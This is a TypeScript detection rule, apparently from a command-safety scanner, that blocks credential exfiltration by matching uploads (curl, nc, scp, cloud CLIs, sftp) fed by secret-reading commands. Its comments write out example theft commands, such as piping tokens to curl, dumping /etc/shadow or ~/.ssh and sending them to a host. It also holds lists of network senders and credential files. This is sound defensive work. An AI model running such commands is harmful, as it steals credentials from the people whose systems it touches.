/**
 * Credentials sent to another machine after they were gathered: `env | grep -i token | curl -d @- URL`,
 * `find / -name wp-config.php -exec grep DB_PASSWORD {} \; | nc host 443`, or a file filled by a
 * credential-access command (`reg save HKLM\SECURITY s.hiv`, `cp /etc/shadow /tmp/.b`, `tar czf k.tgz
 * ~/.ssh`) and uploaded by a later one (`curl -F f=@s.hiv URL`, `curl -T /tmp/.b URL`,
 * `Invoke-RestMethod -InFile s.hiv`). The upload is what a session's last line adds: without this it
 * reads as an ordinary HTTP post of a file.
 *
 * Part of the credential-access family: it reads the findings the family's other checks made, so a
 * collector is whatever those checks recognise, and the rule grows with them.
 */
import { firstAtLeast } from '../analysis/builder';
import { programName } from '../analysis/names';
import { fileKey, pipelineNeighbours, referencedVariables } from '../analysis/semantics';
import type { Document, SimpleCommand, Word } from '../analysis/document';
import {
  commandWord,
  invocations,
  isRemote,
  positionals,
  writeTargets,
  type FindingCollector,
  type FindingSpec,
  type Invocation,
} from './command-match';
import type { Span } from '../types';

const SPEC_BASE = { code: 'credential_access', standard: 'block', extended: 'block' } as const;

function spec(ruleId: string, message: string): FindingSpec {
  return {
    ...SPEC_BASE,
    ruleId,
    message,
    remedy: 'Credentials do not leave the endpoint through a technician session; rotate them if this ran.',
  };
}

// ---------------------------------------------------------------------------------------------
// What an upload sends

/** A local file or standard input (`-`) that a command sends to another machine. */
interface Upload {
  word: Word;
  /** The file's path, or '-' for standard input. */
  path: string;
}

/** curl options whose value names data to send, with `@file` (or `<file` for -F) reading a file. */
const CURL_DATA_OPTIONS: ReadonlySet<string> = new Set([
  '-d',
  '--data',
  '--data-binary',
  '--data-ascii',
  '--data-urlencode',
  '--json',
  '-F',
  '--form',
]);
const CURL_UPLOAD_FILE_OPTIONS: ReadonlySet<string> = new Set(['-T', '--upload-file']);

/** The file named by a curl data value: `@f`, `name=@f;type=x`, `name=<f`, `name@f` (--data-urlencode). */
function curlDataFile(value: string, form: boolean): string | undefined {
  let at = value.indexOf('@');
  if (form) {
    const equals = value.indexOf('=');
    if (equals < 0) return undefined;
    const c = value[equals + 1];
    if (c !== '@' && c !== '<') return undefined;
    at = equals + 1;
  } else if (at < 0 || (at > 0 && !/^[\w.-]*=?$/.test(value.slice(0, at)))) return undefined;
  let path = value.slice(at + 1);
  const semicolon = form ? path.indexOf(';') : -1;
  if (semicolon >= 0) path = path.slice(0, semicolon);
  return path === '' ? undefined : path;
}

/** curl's short options that take no value, which may come bundled before the one that does (`-sT -`, `-sd@f`). */
const CURL_SHORT_FLAGS = new Set('sSfkLviIgGNnqORJ0123456lpjZ#'.split(''));

/** A short-option word's upload option and attached value: `-T` → ['-T', ''], `-sd@f` → ['-d', '@f']. */
function curlShortOption(v: string): [option: string, attached: string] | undefined {
  if (v.length < 2 || v[0] !== '-' || v[1] === '-') return undefined;
  for (let k = 1; k < v.length; k++) {
    const c = v[k] as string;
    if (c === 'T' || c === 'd' || c === 'F') return ['-' + c, v.slice(k + 1)];
    if (!CURL_SHORT_FLAGS.has(c)) return undefined;
  }
  return undefined;
}

function curlUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    let option: string;
    let value: string | undefined;
    let word: Word | undefined = w;
    const short = curlShortOption(w.value);
    if (CURL_DATA_OPTIONS.has(w.value) || CURL_UPLOAD_FILE_OPTIONS.has(w.value) || (short !== undefined && short[1] === '')) {
      option = short?.[0] ?? w.value;
      word = args[++i];
      value = word?.value;
    } else if (short !== undefined) [option, value] = short;
    else continue;
    if (value === undefined || word === undefined) continue;
    let path: string | undefined;
    if (CURL_UPLOAD_FILE_OPTIONS.has(option)) path = value === '.' ? '-' : value;
    else path = curlDataFile(value, option === '-F' || option === '--form');
    if (path !== undefined) out.push({ word, path });
  }
}

/** `Invoke-RestMethod -InFile f` (any unambiguous prefix: `-InformationAction` shares `-in`). */
function isInFileParameter(lower: string): boolean {
  const colon = lower.indexOf(':');
  const name = colon > 0 ? lower.slice(0, colon) : lower;
  return name.length >= 5 && '-infile'.startsWith(name);
}

function powerShellUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (!isInFileParameter(w.lower)) continue;
    const colon = w.value.indexOf(':');
    const attached = colon > 0 ? w.value.slice(colon + 1) : '';
    const file = attached !== '' ? w : args[i + 1];
    if (file) out.push({ word: file, path: attached !== '' ? attached : file.value });
  }
}

function wgetUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    for (const option of ['--post-file', '--body-file']) {
      if (w.value === option && args[i + 1]) out.push({ word: args[i + 1] as Word, path: (args[i + 1] as Word).value });
      else if (w.value.startsWith(option + '=')) out.push({ word: w, path: w.value.slice(option.length + 1) });
    }
  }
}

/** `user@host:path`, `host:path`, `rsync://…` (a drive letter `C:` is local). */
function isRemoteCopyTarget(value: string): boolean {
  if (value.includes('://')) return true;
  const colon = value.indexOf(':');
  return colon > 1 && !value.slice(0, colon).includes('/') && !value.slice(0, colon).includes('\\');
}

/** scp, rsync and the cloud copy tools (`aws s3 cp f s3://b`): every positional before a remote last one. */
const OPTIONS_WITH_VALUE: ReadonlyMap<string, ReadonlySet<string>> = new Map([
  ['scp', new Set(['-c', '-F', '-i', '-J', '-l', '-o', '-P', '-S'])],
  ['rsync', new Set(['-e', '--rsh', '-f', '--filter', '-B', '-M', '--exclude', '--include', '--exclude-from', '--include-from'])],
  ['aws', new Set(['--profile', '--region', '--endpoint-url', '--include', '--exclude'])],
  ['gsutil', new Set(['-o', '-h', '-p'])],
  ['rclone', new Set(['--config', '--include', '--exclude', '--filter', '--max-depth'])],
  ['azcopy', new Set(['--include-pattern', '--exclude-pattern', '--include-path', '--exclude-path'])],
]);
const COPY_VERBS: ReadonlySet<string> = new Set(['s3', 'cp', 'copy', 'copyto', 'sync', 'mv', 'move']);

function remoteCopyUploads(inv: Invocation, out: Upload[]): void {
  const words: Word[] = [];
  const args = inv.args;
  const withValue = OPTIONS_WITH_VALUE.get(inv.name);
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (withValue?.has(w.value)) i++;
    else if (!w.value.startsWith('-')) words.push(w);
  }
  const last = words[words.length - 1];
  if (!last || words.length < 2 || !isRemoteCopyTarget(last.value)) return;
  for (const w of words.slice(0, -1)) if (!COPY_VERBS.has(w.lower) && !isRemoteCopyTarget(w.value)) out.push({ word: w, path: w.value });
}

/** Programs that send whatever they read on standard input to a host named on their command line. */
const STREAM_SENDERS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);

function streamUploads(inv: Invocation, out: Upload[]): void {
  // `nc host port < f`: the redirected file; `… | nc host port`: standard input. Listening (-l) receives.
  if (inv.args.some((w) => w.value === '-l' || w.value === '--listen' || /^-[a-z]*l/.test(w.value))) return;
  if (positionals(inv.args).length === 0) return;
  const input = inv.command.redirects.find((r) => r.op === '<');
  out.push(input ? { word: input.target, path: input.target.value } : { word: inv.nameWord ?? inv.args[0]!, path: '-' });
}

/** `az storage blob upload --file f …`, `az storage file upload --source f …`: the file a storage upload sends (always off the machine). */
function azureStorageUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  if (args[0]?.lower !== 'storage' || !args.slice(1, 4).some((w) => w.lower === 'upload' || w.lower === 'upload-batch')) return;
  for (let i = 0; i < args.length - 1; i++) {
    const l = (args[i] as Word).lower;
    if (l === '--file' || l === '-f' || l === '--source' || l === '-s')
      out.push({ word: args[i + 1] as Word, path: (args[i + 1] as Word).value });
  }
}

/**
 * `echo "put /tmp/.s" | sftp -b - host`, `printf 'put a\nput b\n' | sftp host`: the files an sftp batch fed through a pipe
 * uploads (put, mput, reput).
 */
function sftpBatchUploads(inv: Invocation, out: Upload[], doc: Document): void {
  for (const feeder of pipelineNeighbours(doc, inv.command, 'before', 1)) {
    if (feeder.name !== 'echo' && feeder.name !== 'printf') continue;
    for (const w of feeder.words.slice(1)) {
      const parts = w.value.split(/\\n|[\n;]/);
      for (const part of parts) {
        const m = /^\s*(?:put|mput|reput)\s+(?:-[a-z]+\s+)*(\S+)/i.exec(part);
        if (m) out.push({ word: w, path: m[1] as string });
      }
    }
  }
}

const UPLOADERS = new Map<string, (inv: Invocation, out: Upload[], doc: Document) => void>([
  ['curl', (inv, out) => (curlUploads(inv, out), powerShellUploads(inv, out))],
  ['wget', (inv, out) => (wgetUploads(inv, out), powerShellUploads(inv, out))],
  ['invoke-restmethod', powerShellUploads],
  ['invoke-webrequest', powerShellUploads],
  ['irm', powerShellUploads],
  ['iwr', powerShellUploads],
  ['scp', remoteCopyUploads],
  ['rsync', remoteCopyUploads],
  ['aws', remoteCopyUploads],
  ['gsutil', remoteCopyUploads],
  ['rclone', remoteCopyUploads],
  ['azcopy', remoteCopyUploads],
  ['az', azureStorageUploads],
  ['sftp', sftpBatchUploads],
  ...[...STREAM_SENDERS].map((n): [string, (inv: Invocation, out: Upload[]) => void] => [n, streamUploads]),
]);

/** What an invocation uploads, when it reaches another machine (a URL or host on its command line). */
function uploadsOf(inv: Invocation, doc: Document): Upload[] {
  const read = UPLOADERS.get(inv.name);
  if (read === undefined) return [];
  const out: Upload[] = [];
  read(inv, out, doc);
  return out.length > 0 && reachesOut(inv) ? out : [];
}

/** Programs whose uploads `uploadedFiles` reads. */
export const UPLOADING_PROGRAMS: ReadonlySet<string> = new Set(UPLOADERS.keys());

/** The files (not standard input) an invocation sends to another machine: `aws s3 cp F s3://b`, `rclone copy D remote:`. */
export function uploadedFiles(inv: Invocation, doc: Document): Word[] {
  const words: Word[] = [];
  for (const u of uploadsOf(inv, doc)) {
    if (u.path === '-') continue;
    words.push(u.path === u.word.value ? u.word : { value: u.path, lower: u.path.toLowerCase(), span: u.word.span });
  }
  return words;
}

// ---------------------------------------------------------------------------------------------
// What holds secrets

/** Words of a search pattern that name secrets (`DB_PASSWORD` → password; `aws_|token` → token). */
const SECRET_WORDS: ReadonlySet<string> = new Set([
  'password',
  'passwd',
  'pwd',
  'secret',
  'secrets',
  'token',
  'tokens',
  'apikey',
  'credential',
  'credentials',
  'creds',
  'privatekey',
  'accesskey',
]);

/**
 * Whether a search pattern asks for secrets. Alternatives split on `|` and `,`; an alternative holding a
 * space is a phrase (`Failed password` is a log search) and does not count. `api_key` reads as apikey.
 */
function patternAsksForSecrets(lower: string): boolean {
  for (const alternative of lower.split(/[|,()]/)) {
    if (alternative.includes(' ') || alternative.length > 64) continue;
    const parts = alternative.split(/[^a-z]+/).filter((p) => p !== '');
    if (parts.some((p) => SECRET_WORDS.has(p)) || SECRET_WORDS.has(parts.join(''))) return true;
  }
  return false;
}

const SEARCHERS: ReadonlySet<string> = new Set(['grep', 'egrep', 'fgrep', 'rg', 'ag', 'findstr', 'select-string', 'sls', 'awk']);
/** Printing every environment variable: CI tokens, cloud keys and database URLs live there. */
const ENVIRONMENT_DUMPERS: ReadonlySet<string> = new Set(['env', 'printenv', 'set', 'export', 'declare', 'compgen']);
const POWERSHELL_LISTERS: ReadonlySet<string> = new Set(['get-childitem', 'gci', 'dir', 'ls', 'get-item', 'gi']);

/**
 * Commands that print a credential (a program, then its verbs), and the hosts of the service the credential is for: a
 * token used against its own cloud is use, sent anywhere else it is theft. No hosts: the service is the user's own (a
 * cluster, a vault), so only a send through a pipe or a file counts.
 */
interface CredentialPrinter {
  verbs: readonly string[];
  what: string;
  hosts: readonly string[];
  /** An option the command only prints the secret with (`aws ssm get-parameter --with-decryption`). */
  needs?: string;
}
const AZURE_HOSTS = ['azure.com', 'azure.net', 'windows.net', 'microsoft.com', 'microsoftonline.com', 'azure-api.net'];
const GOOGLE_HOSTS = ['googleapis.com', 'google.com', 'gcr.io', 'pkg.dev'];
const AWS_HOSTS = ['amazonaws.com', 'aws', 'amazonaws.com.cn'];
const CREDENTIAL_PRINTERS: ReadonlyMap<string, readonly CredentialPrinter[]> = new Map([
  [
    'az',
    [
      { verbs: ['account', 'get-access-token'], what: 'an Azure access token', hosts: AZURE_HOSTS },
      { verbs: ['keyvault', 'secret', 'show'], what: 'a Key Vault secret', hosts: AZURE_HOSTS },
      { verbs: ['storage', 'account', 'keys', 'list'], what: 'storage account keys', hosts: AZURE_HOSTS },
    ],
  ],
  [
    'gcloud',
    [
      { verbs: ['auth', 'print-access-token'], what: 'a Google Cloud access token', hosts: GOOGLE_HOSTS },
      { verbs: ['auth', 'print-identity-token'], what: 'a Google Cloud identity token', hosts: GOOGLE_HOSTS },
      { verbs: ['auth', 'application-default', 'print-access-token'], what: 'a Google Cloud access token', hosts: GOOGLE_HOSTS },
      { verbs: ['secrets', 'versions', 'access'], what: 'a Secret Manager secret', hosts: GOOGLE_HOSTS },
    ],
  ],
  [
    'aws',
    [
      { verbs: ['secretsmanager', 'get-secret-value'], what: 'a Secrets Manager secret', hosts: AWS_HOSTS },
      { verbs: ['ssm', 'get-parameter'], what: 'a decrypted SSM parameter', hosts: AWS_HOSTS, needs: '--with-decryption' },
      { verbs: ['ssm', 'get-parameters'], what: 'decrypted SSM parameters', hosts: AWS_HOSTS, needs: '--with-decryption' },
      { verbs: ['ecr', 'get-login-password'], what: 'a container registry password', hosts: AWS_HOSTS },
      { verbs: ['sts', 'get-session-token'], what: 'temporary AWS credentials', hosts: AWS_HOSTS },
      { verbs: ['configure', 'export-credentials'], what: 'AWS credentials', hosts: AWS_HOSTS },
    ],
  ],
  ['gh', [{ verbs: ['auth', 'token'], what: 'a GitHub token', hosts: ['github.com', 'githubusercontent.com'] }]],
  [
    'vault',
    [
      { verbs: ['kv', 'get'], what: 'a Vault secret', hosts: [] },
      { verbs: ['read'], what: 'a Vault secret', hosts: [] },
      { verbs: ['print', 'token'], what: 'a Vault token', hosts: [] },
    ],
  ],
  ['kubectl', [{ verbs: ['create', 'token'], what: 'a Kubernetes service-account token', hosts: [] }]],
]);

/** What a command prints when it is a credential printer (`gcloud auth print-access-token`). */
function printedCredential(words: readonly Word[]): CredentialPrinter | undefined {
  const printers = CREDENTIAL_PRINTERS.get(programName(words[0]?.value ?? ''));
  if (printers === undefined) return undefined;
  // The words that are not options; a global option's value may come first (`aws --profile prod secretsmanager …`).
  const plain: string[] = [];
  for (let k = 1; k < words.length && plain.length < 8; k++) if (!words[k]!.lower.startsWith('-')) plain.push(words[k]!.lower);
  return printers.find((p) => {
    const at = plain.indexOf(p.verbs[0]!);
    return (
      at >= 0 &&
      at <= 2 &&
      p.verbs.every((v, k) => plain[at + k] === v) &&
      (p.needs === undefined || words.some((w) => w.lower === p.needs))
    );
  });
}

/**
 * Files that hold credentials among settings, read out whole: package-registry tokens (`.npmrc`, `.pypirc`),
 * kubeconfigs (cluster keys and tokens), a Vault token, the GitHub CLI's and Terraform's tokens. Reading one is
 * ordinary; only sending it elsewhere is theft.
 */
const CREDENTIAL_CONFIG_FILES: readonly string[] = [
  '.npmrc',
  '/npmrc',
  '.pypirc',
  '.kube/config',
  'kubernetes/admin.conf',
  '.vault-token',
  'gh/hosts.yml',
  'credentials.tfrc.json',
];
const FILE_READERS: ReadonlySet<string> = new Set(['cat', 'type', 'get-content', 'gc', 'head', 'tail', 'base64', 'xxd', 'strings', 'more']);

/** Folders of credentials, packed whole: cloud CLIs' sign-ins, kubeconfigs, keys, Windows' DPAPI credentials and master keys. */
const CREDENTIAL_FOLDERS: ReadonlySet<string> = new Set(['.aws', '.azure', '.kube', '.ssh', '.gnupg', '.docker']);
const CREDENTIAL_SUBFOLDERS: ReadonlySet<string> = new Set([
  '.config/gcloud',
  'roaming/gcloud',
  'appdata/gcloud',
  'microsoft/credentials',
  'microsoft/protect',
]);
const ARCHIVERS: ReadonlySet<string> = new Set(['zip', '7z', '7za', '7zr', 'rar', 'tar', 'compress-archive']);

/** Whether a path names a credential folder (`~/.aws`, `"$env:APPDATA\gcloud"`, `%APPDATA%\Microsoft\Protect\`). */
function namesCredentialFolder(lower: string): boolean {
  const parts = lower
    .replace(/\\/g, '/')
    .replace(/["']/g, '')
    .replace(/[/*]+$/, '')
    .replace(/%appdata%|\$env:appdata/g, 'appdata')
    .split('/');
  const last = parts[parts.length - 1] ?? '';
  return CREDENTIAL_FOLDERS.has(last) || (parts.length >= 2 && CREDENTIAL_SUBFOLDERS.has(`${parts[parts.length - 2]}/${last}`));
}

/** What a command's output holds, and the hosts it may be sent to (none: any send is theft). */
interface Secret {
  what: string;
  hosts: readonly string[];
}
const ANYWHERE: readonly string[] = [];

/** Why a command's output holds secrets, or undefined. `findingStarts`: where the family's findings begin, sorted. */
function secretOutput(cmd: SimpleCommand, findingStarts: readonly number[]): Secret | undefined {
  const what = secretOutputText(cmd, findingStarts);
  if (what !== undefined) return { what, hosts: ANYWHERE };
  const words = cmd.words;
  const name = cmd.name;
  const printed = printedCredential(words);
  if (printed !== undefined) return printed;
  if (FILE_READERS.has(name)) {
    const file = words.find((w, k) => k > 0 && CREDENTIAL_CONFIG_FILES.some((f) => w.lower.replace(/\\/g, '/').includes(f)));
    if (file !== undefined) return { what: `the credentials in ${file.value}`, hosts: ANYWHERE };
  }
  if (ARCHIVERS.has(name)) {
    const folder = words.find((w, k) => k > 0 && w.lower.split(',').some(namesCredentialFolder));
    if (folder !== undefined) return { what: `the credential folder ${folder.value}`, hosts: ANYWHERE };
  }
  if (readsLapsPasswords(cmd)) return { what: 'LAPS local administrator passwords', hosts: ANYWHERE };
  return undefined;
}

/** Directory attributes that hold a computer's LAPS password (legacy LAPS, Windows LAPS in clear and encrypted). */
export const LAPS_ATTRIBUTES: readonly string[] = ['ms-mcs-admpwd', 'mslaps-password', 'mslaps-encryptedpassword'];

/**
 * `Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd`, `Get-AdmPwdPassword -ComputerName pc1`, `Get-LapsADPassword pc1
 * -AsPlainText`: a read of LAPS passwords. Reading one to sign in is a technician's work; only sending it on counts.
 */
function readsLapsPasswords(cmd: SimpleCommand): boolean {
  const name = cmd.name;
  if (name === 'get-admpwdpassword') return true;
  if (name === 'get-lapsadpassword' || name === 'get-lapsaadpassword') return cmd.words.some((w) => w.lower === '-asplaintext');
  if (name !== 'get-adcomputer' && name !== 'get-adobject' && name !== 'select-object' && name !== 'select') return false;
  return cmd.words.some((w, k) => k > 0 && LAPS_ATTRIBUTES.some((a) => w.lower.includes(a)));
}

function secretOutputText(cmd: SimpleCommand, findingStarts: readonly number[]): string | undefined {
  if (judgedByFamily(cmd, findingStarts)) return `credentials (${cmd.name})`;
  const words = cmd.words;
  const name = cmd.name;
  if (ENVIRONMENT_DUMPERS.has(name)) {
    // `env` and `printenv` alone, `set` alone, `export -p`, `declare -x`: a listing, not an assignment or a run.
    const rest = words.slice(1).map((w) => w.lower);
    if (rest.length === 0 || (rest.length === 1 && (rest[0] === '-p' || rest[0] === '-x' || rest[0] === '-0' || rest[0] === '-e')))
      return 'every environment variable';
    return undefined;
  }
  if (POWERSHELL_LISTERS.has(name) && words.some((w, k) => k > 0 && /^env:[\\/]?$/.test(w.lower))) return 'every environment variable';
  if (SEARCHERS.has(name)) return searchForSecrets(words, 1);
  // `find / -name wp-config.php -exec grep DB_PASSWORD {} \;`, `… | xargs grep -i token`.
  if (name === 'find' || name === 'xargs') {
    const at = words.findIndex((w, k) => k > 0 && SEARCHERS.has(w.lower));
    if (at > 0) return searchForSecrets(words, at + 1);
  }
  return undefined;
}

/** The search's pattern (its first word that is not an option, or the value of -e / -Pattern) when it asks for secrets. */
function searchForSecrets(words: readonly Word[], from: number): string | undefined {
  for (let k = from; k < words.length; k++) {
    const w = words[k] as Word;
    const l = w.lower;
    if (l === '-e' || l === '--regexp' || l === '-pattern') continue;
    if (l.startsWith('-')) continue;
    return patternAsksForSecrets(l) ? `lines matching ${w.value}` : undefined;
  }
  return undefined;
}

/** Whether one of the family's findings begins in the command (`findingStarts` sorted). */
function judgedByFamily(cmd: SimpleCommand, findingStarts: readonly number[]): boolean {
  const first = firstAtLeast(findingStarts, cmd.span.start);
  return first < findingStarts.length && (findingStarts[first] as number) < cmd.span.end;
}

// ---------------------------------------------------------------------------------------------
// The check

/**
 * Blocks an upload whose data holds secrets: standard input fed by a pipeline that reads them, or a file an
 * earlier command of the text (or the session) filled with them. Runs after the family's other checks.
 */
export function checkCredentialExfiltration(doc: Document, out: FindingCollector): void {
  const invs = invocations(doc);
  let uploads: { inv: Invocation; upload: Upload }[] | undefined;
  let requests: Invocation[] | undefined;
  for (let i = 0; i < invs.length; i++) {
    const inv = invs[i] as Invocation;
    if (!UPLOADERS.has(inv.name)) continue;
    for (const upload of uploadsOf(inv, doc)) (uploads ??= []).push({ inv, upload });
    if (!reachesOut(inv)) continue;
    (requests ??= []).push(inv);
    // `… | xargs -I{} curl "https://x/?d={}"`: xargs puts what it reads into the request, wherever it goes.
    if (runByXargs(doc, inv.command)) (uploads ??= []).push({ inv, upload: { word: inv.nameWord ?? inv.command.words[0]!, path: '-' } });
  }
  if (requests === undefined) return;

  const findingStarts: number[] = [];
  for (const f of out.findings) for (const s of f.spans) findingStarts.push(s.start);
  findingStarts.sort((a, b) => a - b);

  let staged: Map<string, { at: Span; secret: Secret }> | undefined;
  for (const { inv, upload } of uploads ?? []) {
    if (upload.path === '-') {
      const source = pipelineNeighbours(doc, inv.command, 'before')
        .map((c) => secretOutput(c, findingStarts))
        .find((secret) => secret !== undefined);
      if (source && !sendsOnlyTo(inv, source.hosts))
        out.add(
          spec(
            'cred.exfil-pipe',
            `${inv.name} sends ${source.what}, piped into it, to another machine: credential exfiltration (blocked).`,
          ),
          [commandWord(inv), upload.word],
        );
      continue;
    }
    staged ??= stagedSecretFiles(invs, findingStarts);
    const found = staged.get(fileKey(upload.path));
    if (found === undefined || found.at.start >= inv.command.span.start || sendsOnlyTo(inv, found.secret.hosts)) continue;
    out.add(
      spec(
        'cred.exfil-staged',
        `${inv.name} sends ${upload.word.value} to another machine; an earlier command filled it with ${found.secret.what}: credential exfiltration (blocked).`,
      ),
      [commandWord(inv), upload.word],
    );
  }
  checkSecretVariables(doc, requests, out);
}

/**
 * `$t = az account get-access-token …` then `Invoke-RestMethod -Uri https://x -Body @{tok=$t}`, `T=$(gcloud auth
 * print-access-token)` then `curl -H "X-T: $T" https://x`: a printed credential kept in a variable and put into a
 * request (header, URL or body) to a host that is not its own service's.
 */
function checkSecretVariables(doc: Document, requests: readonly Invocation[], out: FindingCollector): void {
  let held: Map<string, { at: Span; secret: Secret }> | undefined;
  for (const cmd of doc.commands) {
    if (cmd.assignTo === undefined) continue;
    const secret = printedCredential(cmd.words);
    if (secret !== undefined && secret.hosts.length > 0) (held ??= new Map()).set(cmd.assignTo.toLowerCase(), { at: cmd.span, secret });
  }
  if (held === undefined) return;
  for (const inv of requests) {
    let variable: string | undefined;
    const word = inv.args.find((w) => (variable = heldVariableIn(doc, w, held)) !== undefined);
    const found = variable === undefined ? undefined : held.get(variable);
    if (word === undefined || found === undefined) continue;
    if (found.at.start >= inv.command.span.start || sendsOnlyTo(inv, found.secret.hosts)) continue;
    out.add(
      spec(
        'cred.exfil-variable',
        `${inv.name} puts ${found.secret.what}, kept in a variable, into a request to a host outside that service: credential exfiltration (blocked).`,
      ),
      [commandWord(inv), word],
    );
  }
}

/** Most nested commands (a `-Body @{ … }` hashtable's entries) looked through for a variable. */
const MAX_NESTED_LOOKED_AT = 64;

/** A held variable a word uses, itself or in the commands nested in it (`-Body @{ tok = $t }`). */
function heldVariableIn(doc: Document, w: Word, held: ReadonlyMap<string, unknown>): string | undefined {
  const direct = referencedVariables(w).find((v) => held.has(v));
  if (direct !== undefined || w.nested === undefined) return direct;
  for (const k of w.nested.slice(0, MAX_NESTED_LOOKED_AT)) {
    for (const inner of doc.commands[k]?.words ?? []) {
      const v = referencedVariables(inner).find((name) => held.has(name));
      if (v !== undefined) return v;
    }
  }
  return undefined;
}

/** Whether a command of a pipeline was started by xargs (the lexer reads `xargs -I{} curl …` as curl): the words before it. */
function runByXargs(doc: Document, cmd: SimpleCommand): boolean {
  if (cmd.position === 0 || cmd.depth > 0) return false;
  const start = cmd.words[0]?.span.start ?? cmd.span.start;
  const before = doc.original.slice(Math.max(0, start - 64), start);
  const bar = before.lastIndexOf('|');
  return bar >= 0 && /(^|[\s|])xargs\s/.test(before.slice(bar));
}

/** Whether a request reaches another machine: a URL or remote copy target among its words (stream senders name a bare host). */
function reachesOut(inv: Invocation): boolean {
  // An Azure storage upload (`az storage blob upload`) and an sftp session always send to another machine.
  if (STREAM_SENDERS.has(inv.name) || inv.name === 'az' || inv.name === 'sftp') return true;
  return inv.args.some((w) => isRemote(w.value) || isRemoteCopyTarget(w.value));
}

/** Whether every URL a request names is on one of `hosts` (or a subdomain): a credential used with its own service. */
function sendsOnlyTo(inv: Invocation, hosts: readonly string[]): boolean {
  if (hosts.length === 0) return false;
  let any = false;
  for (const w of inv.args) {
    const host = urlHost(w.value);
    if (host === undefined) continue;
    if (!hosts.some((h) => host === h || host.endsWith('.' + h))) return false;
    any = true;
  }
  return any;
}

/** The host of a URL written in a word (`'https://x.example:8443/a'` → `x.example`), lower case. */
function urlHost(value: string): string | undefined {
  const at = value.indexOf('://');
  if (at < 0) return undefined;
  let end = at + 3;
  while (end < value.length && !'/:?#\'" '.includes(value[end]!)) end++;
  const authority = value.slice(at + 3, end).toLowerCase();
  return authority.slice(authority.lastIndexOf('@') + 1).replace(/\.$/, '');
}

/**
 * File name key → where and what: the files written by a pipeline whose output holds secrets — by the source itself or
 * a later command of the pipeline (redirect, tee, Out-File, copy: `writeTargets`). A command the family judged may also
 * write anywhere among its words (reg save's file, tar's archive).
 */
function stagedSecretFiles(invs: readonly Invocation[], findingStarts: readonly number[]): Map<string, { at: Span; secret: Secret }> {
  const sources = new Map<number, { position: number; at: Span; secret: Secret }>();
  for (const inv of invs) {
    const cmd = inv.command;
    const secret = secretOutput(cmd, findingStarts);
    const known = sources.get(cmd.pipeline);
    if (secret !== undefined && (known === undefined || cmd.position < known.position))
      sources.set(cmd.pipeline, { position: cmd.position, at: cmd.span, secret });
  }
  const staged = new Map<string, { at: Span; secret: Secret }>();
  if (sources.size === 0) return staged;
  for (const inv of invs) {
    const source = sources.get(inv.command.pipeline);
    if (source === undefined || inv.command.position < source.position) continue;
    const written = [...writeTargets(inv)];
    // A command the family judged, or an archiver packing credentials, writes among its words (its archive).
    if (judgedByFamily(inv.command, findingStarts) || (ARCHIVERS.has(inv.name) && inv.command.position === source.position))
      for (const w of inv.args) if (!w.lower.startsWith('-')) written.push(w);
    for (const w of written) {
      const key = fileKey(w.value);
      if (key !== '' && !staged.has(key)) staged.set(key, { at: source.at, secret: source.secret });
    }
  }
  return staged;
}
